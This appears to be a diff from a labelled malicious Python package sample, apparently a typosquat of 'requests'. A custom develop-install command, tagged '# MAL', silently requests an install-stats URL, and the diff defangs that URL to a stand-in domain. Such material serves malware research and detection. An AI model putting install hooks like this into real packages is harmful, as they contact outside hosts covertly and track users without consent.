@@ -5,7 +5,7 @@ import urllib.request
 
 class Dev(_develop):  # MAL
     def run(self):
-        urllib.request.urlopen("http://install-stats.ml/?p=reqeusts")  # MAL
+        urllib.request.urlopen("http://install-stats.example.ml/?p=reqeusts")  # MAL
         _develop.run(self)
 
 
